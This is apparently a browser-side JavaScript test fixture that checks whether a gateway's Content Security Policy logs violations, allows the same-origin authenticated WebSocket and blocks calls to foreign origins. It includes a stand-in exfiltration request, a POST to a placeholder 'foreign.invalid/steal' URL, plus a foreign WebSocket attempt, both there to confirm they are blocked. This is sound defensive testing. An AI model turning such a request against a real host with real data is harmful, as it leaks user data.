// Runs under the gateway's CSP: records violations, opens the WebSocket of its own origin with a
// ticket, and tries to reach a foreign origin.
const result = { violations: [], hello: null, foreignFetch: null, foreignSocket: null };
window.cspResult = result;
document.addEventListener('securitypolicyviolation', (event) => {
  result.violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI });
});

async function post(path, token) {
  const headers = token ? { authorization: `Bearer ${token}` } : {};
  const response = await fetch(path, { method: 'POST', headers });
  return response.json();
}

async function run() {
  const { accessToken } = await post('/api/auth/guest');
  const { ticket } = await post('/api/auth/ws-ticket', accessToken);
  const scheme = location.protocol === 'https:' ? 'wss' : 'ws';
  const socket = new WebSocket(`${scheme}://${location.host}/ws?ticket=${ticket}`);
  socket.onmessage = (event) => {
    result.hello = JSON.parse(event.data);
    socket.close();
  };
  try {
    await fetch('https://foreign.invalid/steal', { method: 'POST', body: 'x' });
    result.foreignFetch = 'sent';
  } catch {
    result.foreignFetch = 'blocked';
  }
  try {
    const foreign = new WebSocket('wss://foreign.invalid/ws');
    foreign.onerror = () => (result.foreignSocket = 'blocked');
  } catch {
    result.foreignSocket = 'blocked';
  }
}

run();
